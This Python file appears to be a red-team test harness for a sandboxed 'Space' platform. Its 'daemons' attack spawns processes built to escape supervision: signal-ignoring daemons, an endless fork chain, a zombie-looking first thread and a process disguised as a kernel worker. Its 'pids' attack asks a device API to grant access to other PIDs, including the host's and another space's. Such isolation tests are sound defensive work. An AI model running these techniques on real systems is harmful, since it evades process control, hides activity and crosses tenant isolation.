"""Ways to leave the process tree of the Space, and pids at the device API."""
import os
import signal
import subprocess
import sys
import threading
import time

from attack import attack
from attacks_network import http


def fork(action):
    """Runs an action in a child, which then exits."""
    child = os.fork()
    if child == 0:
        try:
            action()
        finally:
            os._exit(0)
    return child


def become(argument, ignore=(), environment=None):
    """Becomes a process that ends only by a signal, with an argument that no other process has."""
    for number in ignore:
        signal.signal(number, signal.SIG_IGN)
    os.execve("/bin/sleep", ["sleep", argument], environment or {})


def twice(argument):
    os.setsid()
    fork(lambda: become(argument))


def detached(argument):
    """Has no open descriptors, no session, no environment and the root as its folder."""
    os.setsid()
    os.chdir("/")
    os.closerange(0, 4096)
    fork(lambda: become(argument))


def chain(argument):
    """Forks for ever: each process exits once its child runs."""
    os.setsid()
    while True:
        if os.fork():
            os._exit(0)
        time.sleep(0.02)


def without_first_thread(argument):
    """Ends its first thread, so that /proc shows it as a zombie. The other thread goes on."""
    threading.Thread(target=time.sleep, args=(86400,)).start()
    import ctypes

    ctypes.CDLL(None).pthread_exit(None)


def renamed(argument):
    with open("/proc/self/comm", "w") as file:
        file.write("kworker/0:1")
    become(argument)


CATCHABLE = set(signal.valid_signals()) - {signal.SIGKILL, signal.SIGSTOP}

WAYS = {
    "a child": become,
    "a process group": lambda argument: (os.setpgid(0, 0), become(argument)),
    "an orphan": lambda argument: fork(lambda: become(argument)),
    "a session": lambda argument: (os.setsid(), become(argument)),
    "a daemon": twice,
    "a daemon without descriptors": detached,
    "a process that ignores signals": lambda argument: become(argument, CATCHABLE),
    "a session that ignores signals": lambda argument: (os.setsid(), become(argument, CATCHABLE)),
    "a process with the environment": lambda argument: become(argument, environment=dict(os.environ)),
    "a stopped process": lambda argument: (os.kill(os.getpid(), signal.SIGSTOP), become(argument)),
    "a chain of forks": chain,
    "a process without its first thread": without_first_thread,
    "a renamed process": renamed,
}


@attack("daemons")
def daemons(facts):
    for number, way in enumerate(WAYS.values()):
        fork(lambda: way(f"{facts.seconds}.{os.getpid()}{number:02}"))
    subprocess.Popen(["nohup", "sleep", f"{facts.seconds}.99"], start_new_session=True, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    return len(WAYS) + 1


def child():
    return subprocess.Popen([sys.executable, "-I", "-c", "import time; time.sleep(600)"])


@attack("pids")
def pids(facts):
    """Names several processes as the worker of a lease. Returns the status of each /allow."""
    import json

    door = os.environ["SPACES_ZERO_DEVICE_API_URL"]
    worker, gone = child(), child()
    gone.kill()
    gone.wait()
    thread = threading.Thread(target=time.sleep, args=(10,), daemon=True)
    thread.start()
    claimed = {
        "the runner": os.getpid(), "process 1": 1, "0": 0, "-1": -1, "a process that has exited": gone.pid, "a thread": thread.native_id,
        "the host": facts.host, "another space": facts.victim, "a pid of another space": facts.foreign, "no pid": 4194303, "above every pid": 1 << 40,
    }
    found = {}
    for what, pid in [*claimed.items(), ("the worker", worker.pid)]:
        status, body = http(f"{door}/schedule?cgroupPath=/x&taskId=1&enableQueue=true&tokenVersion=2&durationSeconds=5&token={facts.token}", method="POST")
        if status != 200:
            found[what] = f"schedule: {status} {body}"
            continue
        allow = json.loads(body)["allowToken"]
        found[what] = http(f"{door}/allow?allowToken={allow}&pid={pid}", method="POST")[0]
        http(f"{door}/release?allowToken={allow}&fail=true", method="POST")
    return json.dumps(found)
